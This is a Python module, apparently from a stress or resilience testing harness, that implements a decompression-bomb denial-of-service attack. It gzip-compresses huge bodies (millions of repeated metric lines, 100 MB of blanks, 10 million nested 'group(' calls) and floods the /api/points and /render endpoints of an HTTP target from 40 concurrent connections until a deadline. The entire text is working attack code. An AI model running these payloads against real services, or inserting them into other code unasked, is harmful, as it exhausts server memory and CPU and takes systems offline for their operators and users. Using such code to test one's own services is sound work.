"""Compressed bodies that unpack to very large ones."""
import gzip

from swarm import READ, Swarm, post


def attack(target, deadline):
    lines = gzip.compress(b"packed.key 1 1\n" * 4_000_000)
    blanks = gzip.compress(b" " * 100_000_000)
    nested = gzip.compress(b"target=" + b"group(" * 10_000_000)
    bodies = [post("/api/points", len(lines), "text/plain", "Content-Encoding: gzip\r\n") + lines,
              post("/api/points", len(blanks), "text/plain", "Content-Encoding: gzip\r\n") + blanks,
              post("/render", len(nested), "application/x-www-form-urlencoded", "Content-Encoding: gzip\r\n") + nested]

    def script(number):
        while True:
            yield bodies[number % len(bodies)]
            yield READ
    Swarm(target.http, 40, script, addresses=target.addresses).run(deadline)
